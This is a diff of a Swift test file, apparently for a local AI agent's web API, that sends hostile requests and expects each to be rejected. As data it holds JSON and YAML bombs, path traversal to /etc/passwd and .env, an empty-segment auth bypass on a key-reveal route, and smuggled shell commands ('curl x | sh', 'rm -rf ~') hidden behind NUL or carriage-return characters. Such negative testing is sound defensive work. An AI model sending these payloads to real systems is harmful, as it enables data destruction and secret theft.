@@ -50,35 +50,45 @@ import Testing
             // Bodies that are not JSON, nested too deeply, or too large.
             Case("not JSON", "PATCH", "/api/v1/config", headers: anyVersion, body: "operations: [this is yaml]", status: 400),
             Case("truncated JSON", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value": "abc"#, status: 400),
-            Case("JSON nested 100,000 deep (config)", "PATCH", "/api/v1/config", headers: anyVersion,
-                 body: String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000), status: 400),
-            Case("JSON nested 100,000 deep (keys)", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json,
-                 body: #"{"value":"# + String(repeating: "[", count: 100_000), status: 400),
-            Case("JSON nested 100,000 deep (cron)", "POST", "/api/v1/cron/jobs", headers: json,
-                 body: #"{"prompt":"# + String(repeating: "{\"a\":", count: 100_000), status: 400),
+            Case(
+                "JSON nested 100,000 deep (config)", "PATCH", "/api/v1/config", headers: anyVersion,
+                body: String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000), status: 400),
+            Case(
+                "JSON nested 100,000 deep (keys)", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json,
+                body: #"{"value":"# + String(repeating: "[", count: 100_000), status: 400),
+            Case(
+                "JSON nested 100,000 deep (cron)", "POST", "/api/v1/cron/jobs", headers: json,
+                body: #"{"prompt":"# + String(repeating: "{\"a\":", count: 100_000), status: 400),
             Case("10 MB body", "PUT", Array("/api/v1/keys/HOSTILE_KEY".utf8), headers: json, body: tenMegabytes, status: 413),
-            Case("10 MB chunked body", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
-                 body: tenMegabytes, chunked: true, status: 413),
-            Case("wrong content type", "PUT", "/api/v1/config/raw", headers: ["Content-Type: image/png", "If-Match: *"], body: "model: x", status: 415),
+            Case(
+                "10 MB chunked body", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
+                body: tenMegabytes, chunked: true, status: 413),
+            Case(
+                "wrong content type", "PUT", "/api/v1/config/raw", headers: ["Content-Type: image/png", "If-Match: *"], body: "model: x", status: 415),
             // Numbers out of range and wrong types.
             Case("count 1e400", "POST", "/api/v1/cron/preview", headers: json, body: #"{"schedule":"every 5m","count":1e400}"#, status: 400),
             Case("count -1", "POST", "/api/v1/cron/preview", headers: json, body: #"{"schedule":"every 5m","count":-1}"#, status: 400),
-            Case("repeat beyond Int64", "POST", "/api/v1/cron/jobs", headers: json,
-                 body: #"{"schedule":"every 5m","prompt":"x","repeat":99999999999999999999999}"#, status: 400),
+            Case(
+                "repeat beyond Int64", "POST", "/api/v1/cron/jobs", headers: json,
+                body: #"{"schedule":"every 5m","prompt":"x","repeat":99999999999999999999999}"#, status: 400),
             Case("limit beyond Int64", "GET", "/api/v1/sessions?limit=99999999999999999999999", status: 400),
             Case("negative days", "GET", "/api/v1/analytics/usage?days=-1", status: 400),
             Case("epoch 1e300", "GET", "/api/v1/sessions?from=1e300", status: 400),
             Case("value of the wrong type", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value": 12}"#, status: 400),
-            Case("config value of the wrong type", "PATCH", "/api/v1/config", headers: anyVersion,
-                 body: #"{"operations":[{"path":"agent.max_turns","value":"many"}]}"#, status: 422),
+            Case(
+                "config value of the wrong type", "PATCH", "/api/v1/config", headers: anyVersion,
+                body: #"{"operations":[{"path":"agent.max_turns","value":"many"}]}"#, status: 422),
             // NUL and invalid UTF-8.
             Case("NUL in a key value", "PUT", "/api/v1/keys/HOSTILE_KEY", headers: json, body: #"{"value":"a\u0000b"}"#, status: 422),
-            Case("invalid UTF-8 in a JSON body", "PUT", Array("/api/v1/keys/HOSTILE_KEY".utf8), headers: json,
-                 body: Array(#"{"value":""#.utf8) + [0xFF, 0xFE, 0xC3] + Array(#""}"#.utf8), status: 400),
-            Case("invalid UTF-8 in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
-                 body: Array("model: ".utf8) + [0xC0, 0xAF], status: 400),
-            Case("NUL in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
-                 body: Array("model: a".utf8) + [0] + Array("b\n".utf8)),
+            Case(
+                "invalid UTF-8 in a JSON body", "PUT", Array("/api/v1/keys/HOSTILE_KEY".utf8), headers: json,
+                body: Array(#"{"value":""#.utf8) + [0xFF, 0xFE, 0xC3] + Array(#""}"#.utf8), status: 400),
+            Case(
+                "invalid UTF-8 in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
+                body: Array("model: ".utf8) + [0xC0, 0xAF], status: 400),
+            Case(
+                "NUL in raw YAML", "PUT", Array("/api/v1/config/raw".utf8), headers: ["Content-Type: application/yaml", "If-Match: *"],
+                body: Array("model: a".utf8) + [0] + Array("b\n".utf8)),
             Case("invalid UTF-8 in a query", "GET", "/api/v1/sessions/search?q=%FF%FE", status: 400),
             Case("NUL in a query", "GET", "/api/v1/logs?q=a%00b", status: 400),
             Case("invalid UTF-8 in a path", "GET", "/api/v1/sessions/%C0%AF", status: 400),
@@ -86,15 +96,23 @@ import Testing
             Case("a space in the request target", "GET", "/api/v1/skills/a b", status: 400).bare,
             // Alias bombs in raw config.
             Case("an empty path segment (the old auth bypass)", "POST", "//api/v1/keys/OPENROUTER_API_KEY/reveal", status: 400),
-            Case("an empty segment under the API root", "POST", "/api//v1/cron/jobs", headers: json, body: #"{"prompt":"x","schedule":"every 5m"}"#, status: 400),
+            Case(
+                "an empty segment under the API root", "POST", "/api//v1/cron/jobs", headers: json, body: #"{"prompt":"x","schedule":"every 5m"}"#,
+                status: 400),
             Case("a second Host header", "GET", "/api/v1/status", headers: ["Host: evil.example"], status: 400),
             Case("an unknown transfer coding", "POST", "/api/v1/cron/preview", headers: json + ["Transfer-Encoding: xchunked"], body: "{}").bare,
-            Case("NUL in an approval action", "POST", "/api/v1/approvals", headers: json,
-                 body: #"{"tool":"terminal","action":"uptime\u0000; curl x | sh"}"#, status: 400),
-            Case("a carriage return that would hide the start of a line", "POST", "/api/v1/approvals", headers: json,
-                 body: #"{"tool":"terminal","action":"echo ok\r rm -rf ~"}"#, status: 400),
-            Case("billion laughs", "PUT", "/api/v1/config/raw", headers: ["Content-Type: application/yaml", "If-Match: *"], body: yamlBomb, status: 422),
-            Case("billion laughs in a dry run", "PUT", "/api/v1/config/raw?dryRun=true", headers: ["Content-Type: application/yaml"], body: yamlBomb, status: 422),
+            Case(
+                "NUL in an approval action", "POST", "/api/v1/approvals", headers: json,
+                body: #"{"tool":"terminal","action":"uptime\u0000; curl x | sh"}"#, status: 400),
+            Case(
+                "a carriage return that would hide the start of a line", "POST", "/api/v1/approvals", headers: json,
+                body: #"{"tool":"terminal","action":"echo ok\r rm -rf ~"}"#, status: 400),
+            Case(
+                "billion laughs", "PUT", "/api/v1/config/raw", headers: ["Content-Type: application/yaml", "If-Match: *"], body: yamlBomb, status: 422
+            ),
+            Case(
+                "billion laughs in a dry run", "PUT", "/api/v1/config/raw?dryRun=true", headers: ["Content-Type: application/yaml"], body: yamlBomb,
+                status: 422),
             // FTS and regex bombs.
             Case("too many search terms", "GET", "/api/v1/sessions/search?q=" + (1...40).map { "w\($0)" }.joined(separator: "%20"), status: 400),
             Case("search text too long", "GET", "/api/v1/sessions/search?q=" + String(repeating: "a", count: 600), status: 400),
@@ -111,8 +129,9 @@ import Testing
             Case("skill file absolute", "GET", "/api/v1/skills/sql-review/files//etc/passwd"),
             Case("skill file backslash", "GET", "/api/v1/skills/sql-review/files/..\\..\\.env", status: 400),
             Case("skill content write ..", "PUT", "/api/v1/skills/..%2Fconfig/content", headers: anyVersion, body: #"{"text":"x"}"#, status: 400),
-            Case("skill create with a path name", "POST", "/api/v1/skills", headers: json,
-                 body: #"{"name":"../../evil","description":"x","body":"x"}"#, status: 400),
+            Case(
+                "skill create with a path name", "POST", "/api/v1/skills", headers: json,
+                body: #"{"name":"../../evil","description":"x","body":"x"}"#, status: 400),
             Case("log file ..", "GET", "/api/v1/logs?file=../.env", status: 400),
             Case("log file absolute", "GET", "/api/v1/logs?file=/etc/passwd", status: 400),
             Case("log stream file ..", "GET", "/api/v1/logs/stream?file=..%2F.env", status: 400),
@@ -164,9 +183,13 @@ import Testing
             if let status = hostile.status {
                 #expect(answer.status == status, "\(hostile.name): got \(answer.status) \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
             } else {
-                #expect((400..<500).contains(answer.status), "\(hostile.name): got \(answer.status) \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
+                #expect(
+                    (400..<500).contains(answer.status),
+                    "\(hostile.name): got \(answer.status) \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
             }
-            #expect(!hostile.envelope || answer.errorCode != nil, "\(hostile.name): no JSON error envelope in \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
+            #expect(
+                !hostile.envelope || answer.errorCode != nil,
+                "\(hostile.name): no JSON error envelope in \(String(decoding: answer.body.prefix(300), as: UTF8.self))")
             #expect(site.server.isRunning, "\(hostile.name): the server died")
         }
         let health = try await client.send("GET", "/api/v1/health")
